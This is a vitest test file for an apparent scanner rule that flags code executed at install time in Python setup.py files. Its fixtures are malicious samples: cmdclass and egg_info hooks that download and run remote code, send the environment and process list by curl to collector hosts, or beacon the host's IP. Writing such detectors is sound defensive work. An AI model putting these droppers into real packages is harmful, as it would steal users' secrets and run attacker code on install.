import { describe, it, expect } from 'vitest';
import { hits, maxSev } from './helpers.js';

const DROPPER = `from setuptools import setup
from setuptools.command.install import install
import os, requests

class PostInstall(install):
    def run(self):
        r = requests.get('https://cdn.example.net/x')
        os.system('python -c "' + r.text + '"')
        install.run(self)

setup(name='pkg', version='1.0', cmdclass={'install': PostInstall})
`;

describe('install-time-exec', () => {
  it('flags network + spawn in a cmdclass install command (high)', () => {
    expect(maxSev(hits('install-time-exec', { 'setup.py': DROPPER }))).toBe('high');
  });
  it('flags exec of computed code at setup.py top level (medium)', () => {
    const src = `import setuptools\nexec(''.join(reversed(PAYLOAD)))\nsetuptools.setup(name='x')\n`;
    expect(maxSev(hits('install-time-exec', { 'setup.py': src }))).toBe('medium');
  });
  it('keeps a pkg-config probe low (Pillow/psycopg2 pattern)', () => {
    const src = `import subprocess\nfrom setuptools import setup\nflags = subprocess.check_output(['pkg-config', '--cflags', 'zlib'])\nsetup(name='x')\n`;
    expect(maxSev(hits('install-time-exec', { 'setup.py': src }))).toBe('low');
  });
  it('does not flag exec of a version file (h11, websockets, coverage)', () => {
    const src = `from setuptools import setup\nversion = {}\nexec(open('pkg/_version.py').read(), version)\nexec(compile(open('pkg/about.py').read(), 'about.py', 'exec'))\nsetup(name='x', version=version['__version__'])\n`;
    expect(hits('install-time-exec', { 'setup.py': src })).toEqual([]);
  });
  it('ignores a spawn in a function setup.py never calls, and comments', () => {
    const src = `from setuptools import setup\nimport os\ndef release():\n    os.system('twine upload dist/*')\n# os.system('curl evil | sh')\nsetup(name='x')\n`;
    expect(hits('install-time-exec', { 'setup.py': src })).toEqual([]);
  });
  it('does not look at ordinary modules', () => {
    expect(hits('install-time-exec', { 'pkg/cli.py': 'import os\nos.system("ls")\n' })).toEqual([]);
  });
});

describe('install-time-exec: callbacks', () => {
  it('follows a function registered with atexit from an install command (the beacon runs after install)', () => {
    const src = `import atexit, os, requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass new_install(install):\n    def __init__(self, *a, **k):\n        super().__init__(*a, **k)\n        atexit.register(_post_install)\ndef _post_install():\n    ip = requests.get('https://api.ipify.org').text\n    requests.get('https://collector.example/?' + ip + os.uname()[1])\nsetup(name='x', cmdclass={'install': new_install})\n`;
    expect(maxSev(hits('install-time-exec', { 'setup.py': src }))).toBe('critical');
  });
});

describe('install-time-exec: command lines built in pieces', () => {
  it('reads an argv list kept in a name: curl posting the environment and ps output at egg_info (critical)', () => {
    const src = `from setuptools import setup\nfrom setuptools.command.egg_info import egg_info\nimport subprocess, os\ndef RunCommand():\n    env_vars = os.environ\n    output = subprocess.check_output(["ps", "-elf"]).decode("utf-8")\n    env_vars_string = "&".join([f"{key}={value}" for key, value in env_vars.items()])\n    curl_command = ["curl", "-X", "POST", "-d", f"'{env_vars_string}{output}'", "http://abcdefabcdef.oast.fun"]\n    subprocess.run(curl_command, check=True)\nclass RunEggInfoCommand(egg_info):\n    def run(self):\n        RunCommand()\n        egg_info.run(self)\nsetup(name='x', cmdclass={'egg_info': RunEggInfoCommand})\n`;
    const f = hits('install-time-exec', { 'setup.py': src });
    expect(maxSev(f)).not.toBe('low');
    expect(f[0].message).toMatch(/uses the network \(subprocess\.run/);
  });
  it('reads a command whose URL part is computed: os.system("curl " + target) on setup.py top level (high)', () => {
    const src = `from setuptools import setup\nfrom random import randint\nimport os\nsetup(name='x', version='0.0.1')\ntarget = 'https://webhook.site/91167127?' + str(randint(1, 100))\nos.system('curl ' + target)\n`;
    expect(maxSev(hits('install-time-exec', { 'setup.py': src }))).toBe('high');
  });
  it('keeps a compiler probe built in pieces low', () => {
    const src = `from setuptools import setup\nimport subprocess, sys\ncc = ["gcc", "-dumpversion"]\nflags = subprocess.check_output(cc).decode()\nsubprocess.call("pkg-config --cflags " + sys.argv[0])\nsetup(name='x')\n`;
    expect(maxSev(hits('install-time-exec', { 'setup.py': src }))).toBe('low');
  });
});
